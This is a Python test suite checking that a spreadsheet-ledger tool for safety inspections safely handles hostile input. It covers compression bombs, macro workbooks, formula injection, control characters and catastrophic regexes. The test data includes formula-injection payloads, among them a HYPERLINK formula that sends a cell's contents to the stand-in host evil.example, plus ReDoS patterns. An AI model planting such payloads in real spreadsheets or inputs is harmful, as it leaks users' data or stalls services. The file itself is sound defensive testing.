"""Hostile input (issue 12): every fixture of tests/hostile/manifest.yaml gives its message and exit 2,
and text that looks like a formula or holds control characters is written as plain text."""
from __future__ import annotations

import csv
import io
import sys
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook

from yinhuan import cells, xlsxread
from yinhuan.cli import main
from yinhuan.errors import InputError

HOSTILE = Path(__file__).resolve().parent / "hostile"
sys.path.insert(0, str(HOSTILE))
import make  # noqa: E402

MANIFEST = yaml.safe_load((HOSTILE / "manifest.yaml").read_text(encoding="utf-8"))


def invoke(*args):
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit), \
        f"traceback: {result.exception!r}"
    return result.exit_code, result.output


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    return {name: make_it(folder / name) for name, make_it in make.BUILT.items()}


def _content(path: Path):
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as z:
            return {i.filename: z.read(i.filename) for i in z.infolist()}
    return path.read_bytes()


def test_stored_fixtures_are_what_make_py_builds(tmp_path):
    for name, make_it in make.STORED.items():
        assert _content(make_it(tmp_path / name)) == _content(HOSTILE / name), name


@pytest.mark.parametrize("case", MANIFEST, ids=[c.get("id", c["file"]) for c in MANIFEST])
def test_hostile_fixture_gives_its_message(case, built, tmp_path):
    path = built.get(case["file"]) or HOSTILE / case["file"]
    out = tmp_path / "out"
    argv = [a.replace("{file}", str(path)).replace("{out}", str(out)) for a in case["argv"]]
    before = path.read_bytes()
    code, output = invoke(*argv)
    assert code == case["exit"], output
    assert case["message"] in output, output
    assert "Traceback" not in output
    assert path.read_bytes() == before  # an input is never written
    if code == 2:
        assert not out.exists() or not any(out.iterdir())


# ---- the bounded reader, directly ------------------------------------------------------------

def test_bounded_reader_streams_a_real_ledger(tmp_path):
    from openpyxl import Workbook
    wb = Workbook()
    for r in range(1, 51):
        wb.active.append([f"r{r}", r, None, "x"])
    wb.save(tmp_path / "ok.xlsx")
    book = xlsxread.open_workbook(tmp_path / "ok.xlsx")
    rows = list(xlsxread.rows(xlsxread.sheets(book)[0], "ok.xlsx"))
    assert [n for n, _ in rows] == list(range(1, 51))
    assert rows[-1][1] == ("r50", 50, None, "x")


def test_limits_are_parameters(tmp_path):
    from openpyxl import Workbook
    wb = Workbook()
    for r in range(1, 12):
        wb.active.append([r])
    wb.save(tmp_path / "ok.xlsx")
    small = xlsxread.Limits(max_rows=10)
    with pytest.raises(InputError, match="声明的范围 A1:A11 超过上限（10 行"):
        xlsxread.open_workbook(tmp_path / "ok.xlsx", small)


def test_ratio_bomb_below_the_total_is_refused(tmp_path):
    path = make.big_bomb(tmp_path / "b.xlsx", megabytes=20)
    with pytest.raises(InputError, match="压缩比超过 150:1"):
        xlsxread.check_archive(path)


def test_xlsm_by_name_and_content_type_is_refused(tmp_path):
    with pytest.raises(InputError, match="含宏"):
        xlsxread.check_archive(make.macro(tmp_path / "m.xlsm"))
    ct = make.CONTENT_TYPES.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    with pytest.raises(InputError, match="macroEnabled"):
        xlsxread.check_archive(make.workbook(tmp_path / "n.xlsx", make.sheet_xml(b""), None, ct))


def test_formula_is_read_as_its_saved_value_never_evaluated(tmp_path):
    sheet = make.sheet_xml(b'<row r="1"><c r="A1"><f>1+1</f><v>7</v></c>'
                           b'<c r="B1"><f>HYPERLINK("http://x","y")</f></c></row>', "A1:B1")
    book = xlsxread.open_workbook(make.workbook(tmp_path / "f.xlsx", sheet))
    assert list(xlsxread.rows(xlsxread.sheets(book)[0], "f.xlsx")) == [(1, (7, None))]


# ---- writing: formulas and control characters ------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A2)",
              "\t=1+1", "\r=1+1", "＝1+1"]


def test_csv_fields_are_neutralised_per_owasp():
    data = cells.csv_bytes(["h"], [[s] for s in INJECTIONS] + [["正常文字"], [-5], ["a\x00b\x1bc"]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
    assert [r[0] for r in rows[:len(INJECTIONS)]] == ["'" + s for s in INJECTIONS]
    assert rows[-3:] == [["正常文字"], ["-5"], ["a␀b␛c"]]


def test_xlsx_text_cells_are_never_formulas(tmp_path):
    from openpyxl import Workbook
    wb = Workbook()
    for r, s in enumerate(INJECTIONS + ["a\x00b\x1bc\x7f", "\ud800x"], 1):
        cells.put(wb.active.cell(row=r, column=1), s)
    wb.save(tmp_path / "w.xlsx")
    with zipfile.ZipFile(tmp_path / "w.xlsx") as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    back = load_workbook(tmp_path / "w.xlsx").active
    assert [back.cell(row=r, column=1).data_type for r in range(1, len(INJECTIONS) + 3)] == ["s"] * (len(INJECTIONS) + 2)
    assert back["A1"].value == INJECTIONS[0] and back["A1"].quotePrefix
    assert back.cell(row=len(INJECTIONS) + 1, column=1).value == "a␀b␛c␡"
    assert back.cell(row=len(INJECTIONS) + 2, column=1).value == "\ufffdx"


# ---- rule regexes ----------------------------------------------------------------------------

CATASTROPHIC = {r"^(a+)+$": "重复的分组内又有量词", r"(a|ab)+c": "几个选择项可以以同一字符开头",
                r"(.|a)*!": "几个选择项可以以同一字符开头", r"(a?a?)+b": "重复的分组内又有量词",
                r".*.*.*.*x": "最多 3 个", r"(a)\1": "反向引用", r"(?<=a)b": "断言"}


@pytest.mark.parametrize("pattern", sorted(CATASTROPHIC))
def test_lint_rejects_catastrophic_patterns(pattern, tmp_path):
    from conftest import write_rules
    rule = f"""
id: FX-RX
title: 正则测试
source: {{document: 工贸方案, clause: 二（一）1}}
tags: [fx]
check:
  kind: none
  fact: meetings
  what: 备注
  where: {{field: note, matches: '{pattern}'}}
"""
    rdir, cdir = write_rules(tmp_path, {"rx": rule})
    r = CliRunner().invoke(main, ["rules", "lint", str(rdir), str(cdir)])
    assert r.exit_code == 2, r.output
    assert CATASTROPHIC[pattern] in r.output and f"{rdir / 'rx.yaml'}:" in r.output, r.output


def test_shipped_patterns_run_on_re2_and_agree_with_re():
    import re
    from yinhuan import saferegex
    from yinhuan.rulebook import shipped_rulebook
    assert saferegex.ENGINE == "re2"  # the test extra installs google-re2
    patterns = set(re.findall(r"matches: ([^}\n]+)", "\n".join(
        p.read_text(encoding="utf-8") for p in (HOSTILE.parent.parent / "rules").rglob("*.yaml"))))
    assert patterns and shipped_rulebook()
    texts = ["焊机", "气割", "判定标准学习", "警示教育会", "", "a" * 35 + "!", "重点检查事项\n第二行"]
    for p in patterns:
        p = p.strip().strip("'\"")
        rx = saferegex.compile_pattern(p)
        assert type(rx).__module__.startswith("re2")
        for t in texts:
            assert bool(rx.search(t)) == bool(re.search(p, t)), (p, t)


def test_re2_runs_the_pattern_re_cannot_finish():
    """What lint keeps out would also be harmless to the engine: RE2 matches in linear time."""
    from yinhuan import saferegex
    rx = saferegex._re2.compile(r"^(a+)+$")
    assert rx.search("a" * 35 + "!") is None and rx.search("a" * 100_000)
    with pytest.raises(saferegex.Unsafe):
        saferegex.compile_pattern(r"^(a+)+$")


# ---- every writer: ledger and tally outputs carry injected text as text ------------------------

def _hostile_evidence(tmp_path: Path) -> Path:
    return HOSTILE / "evidence-formula.yaml"


def test_ledger_export_writes_injected_text_as_text(tmp_path):
    evidence = _hostile_evidence(tmp_path)
    code, msg = invoke("ledger", "export", "--out", tmp_path / "l.xlsx", evidence)
    assert code == 0, msg
    with zipfile.ZipFile(tmp_path / "l.xlsx") as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in s for s in sheets)
    ws = load_workbook(tmp_path / "l.xlsx").worksheets[0]
    cells_by_text = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    link = cells_by_text['=HYPERLINK("http://evil.example/?"&A1,"点击查看")']
    assert link.data_type == "s" and link.quotePrefix
    assert "停用␛[31m␇空调" in cells_by_text
    code, msg = invoke("ledger", "export", "--out", tmp_path / "l.csv", evidence)
    assert code == 0, msg
    rows = list(csv.reader(io.StringIO((tmp_path / "l.csv").read_text(encoding="utf-8-sig"))))
    fields = {f for r in rows for f in r}
    assert """'=HYPERLINK("http://evil.example/?"&A1,"点击查看")""" in fields and "'@SUM(1+1)" in fields
    assert "停用␛[31m␇空调" in fields


def test_tally_workbook_writes_injected_text_as_text(tmp_path):
    from bureau_helpers import BUREAU
    evidence = _hostile_evidence(tmp_path)
    inputs = [BUREAU / "activity-gongmao.yaml", BUREAU / "findings-gongmao-2023-06.json", evidence]
    code, msg = invoke("tally", "--checklist", "gongmao-2023", "--period", "2023-06", "--cumulative",
                       "--out", tmp_path / "out", *inputs)
    assert code in (0, 1), msg
    book = next((tmp_path / "out").glob("*.xlsx"))
    with zipfile.ZipFile(book) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    texts = [c for ws in load_workbook(book).worksheets for row in ws.iter_rows(values_only=True) for c in row]
    assert '=HYPERLINK("http://evil.example/?"&A1,"点击查看")' in texts
